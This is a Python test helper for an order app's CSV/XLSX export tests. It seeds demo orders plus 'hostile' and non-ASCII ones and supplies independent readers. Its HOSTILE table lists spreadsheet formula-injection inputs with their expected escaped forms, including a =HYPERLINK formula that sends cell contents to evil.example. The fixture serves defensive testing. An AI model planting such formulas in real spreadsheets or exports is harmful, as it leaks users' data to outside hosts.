"""Shared by the export tests: a small store of demo orders plus hostile and non-ASCII ones,
and readers that are not our writers (``csv``; openpyxl and python-calamine for XLSX)."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

from ordertui.config import Config, parse
from ordertui.domain.models import (
    Address,
    Customer,
    Dispute,
    LineItem,
    Order,
    TrackingEvent,
)
from ordertui.domain.money import Money
from ordertui.domain.states import DisputeReason, DisputeState, OrderStatus
from ordertui.services import Services

DEMO_ORDERS = 120
LONG = "L" * 10_000
HUGE = "H" * 40_000  # above Excel's 32,767 characters per cell

#: Text a spreadsheet would act on, and what every export must hold instead.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")':
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "+1": "'+1",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tTabbed": "'\tTabbed",
    "\rCarriage": "'\nCarriage",
    "  =1+1": "'  =1+1",
    "cmd\x00with\x07bell\x1b[31mred\x0bvt": "cmd␀with␇bell␛[31mred␋vt",
    "#N/A": "#N/A",
    LONG: LONG,
}
NON_ASCII = ("Jürgen Müller", "王小明", "Zoë O'Brien")
HOSTILE_SUPPLIER = "acme"
HOSTILE_DAY = datetime(2021, 3, 1, 12, 0, tzinfo=UTC)


def hostile_orders() -> list[Order]:
    """Orders from supplier "acme" placed in March 2021, one per hostile or non-ASCII name,
    each bought at a loss (a real negative profit), and a few odd shapes."""
    orders = []
    names = [*HOSTILE, *NON_ASCII]
    titles = list(reversed(names))
    for n, (name, title) in enumerate(zip(names, titles, strict=True)):
        at = HOSTILE_DAY + timedelta(days=n)
        cost, price = Money(Decimal("7.25"), "EUR"), Money(Decimal("5.00"), "EUR")
        items = [LineItem(title=title, quantity=2, unit_cost=cost, unit_price=price,
                          variant="Größe L", sku=f"SKU-{n}")]
        if n % 3 == 0:
            items.append(LineItem(title="Desk lamp 台灯", quantity=1,
                                  unit_cost=Money(Decimal("3.10"), "EUR"),
                                  unit_price=Money(Decimal("4.00"), "EUR"), sku="LAMP"))
        total_cost = Money(sum((i.total_cost.amount for i in items), Decimal(0)), "EUR")
        total_price = Money(sum((i.total_price.amount for i in items), Decimal(0)), "EUR")
        orders.append(Order(
            supplier=HOSTILE_SUPPLIER, supplier_order_id=f"H{n:03d}", name=f"#H{n:03d}",
            status=OrderStatus.SHIPPED, created_at=at, updated_at=at, currency="EUR",
            items=items,
            customer=Customer(name=name, email=f"c{n}@example.com", phone="+49 30 123456",
                              address=Address(line1="Hauptstraße 1", city="München",
                                              zip="80331", country="DE")),
            total_price=total_price, total_cost=total_cost,
            shipping_cost=Money(Decimal("0.00"), "EUR"), paid_at=at,
            carrier="DHL", tracking_number=f"TRK{n:05d}",
            tracking_events=[TrackingEvent(at=at + timedelta(hours=5), description="Shipped",
                                           location="Shenzhen")]))
    at = HOSTILE_DAY + timedelta(days=len(names))
    orders.append(Order(  # no line items at all, in yen, with a refunded dispute
        supplier=HOSTILE_SUPPLIER, supplier_order_id="H-EMPTY", name="#HEMPTY",
        status=OrderStatus.DELIVERED, created_at=at, updated_at=at, currency="JPY", items=[],
        customer=Customer(name=HUGE), total_price=Money(Decimal("1500"), "JPY"),
        total_cost=Money(Decimal("900"), "JPY"),
        dispute=Dispute(state=DisputeState.RESOLVED_REFUNDED, reason=DisputeReason.NOT_RECEIVED,
                        amount=Money(Decimal("900"), "JPY"), description="lost",
                        opened_at=at, updated_at=at, refunded=Money(Decimal("900"), "JPY"))))
    return orders


def make_config(data_dir: Path, email: dict[str, Any] | None = None) -> Config:
    raw: dict[str, Any] = {"email": email} if email is not None else {}
    return parse(raw, data_dir / "config.toml", data_dir)


def build_store(data_dir: Path, demo: int = DEMO_ORDERS) -> Path:
    """A data directory with ``demo`` demo orders and the hostile ones."""
    services = Services(make_config(data_dir))

    async def seed() -> None:
        try:
            await services.seed_demo(demo, seed=11)
        finally:
            await services.aclose()
    asyncio.run(seed())
    services = Services(make_config(data_dir))
    services.store.bulk_insert(hostile_orders())
    services.store.close()
    (data_dir / "config.toml").write_text("")
    return data_dir


def services_for(data_dir: Path, email: dict[str, Any] | None = None) -> Services:
    return Services(make_config(data_dir, email))


# --- readers that are not our writers -----------------------------------------------


def read_csv(path: Path) -> tuple[bytes, list[list[str]]]:
    raw = path.read_bytes()
    text = raw.decode("utf-8-sig")
    return raw, list(csv.reader(io.StringIO(text, newline="")))


def read_xlsx_openpyxl(path: Path | bytes) -> Any:
    from openpyxl import load_workbook

    source: Any = io.BytesIO(path) if isinstance(path, bytes) else path
    return load_workbook(source).active


def read_xlsx_calamine(path: Path | bytes) -> list[list[Any]]:
    from python_calamine import CalamineWorkbook

    if isinstance(path, bytes):
        book = CalamineWorkbook.from_filelike(io.BytesIO(path))
    else:
        book = CalamineWorkbook.from_path(str(path))
    # the sheet is named in the app's language ("Orders", "Bestellungen"): the first one
    rows: list[list[Any]] = book.get_sheet_by_index(0).to_python()
    return rows


def by_order(header: list[str], rows: list[list[Any]]) -> dict[str, list[Any]]:
    """The first row of each order, keyed by the "Order" column."""
    index = header.index("Order")
    found: dict[str, list[Any]] = {}
    for row in rows:
        found.setdefault(str(row[index]), row)
    return found
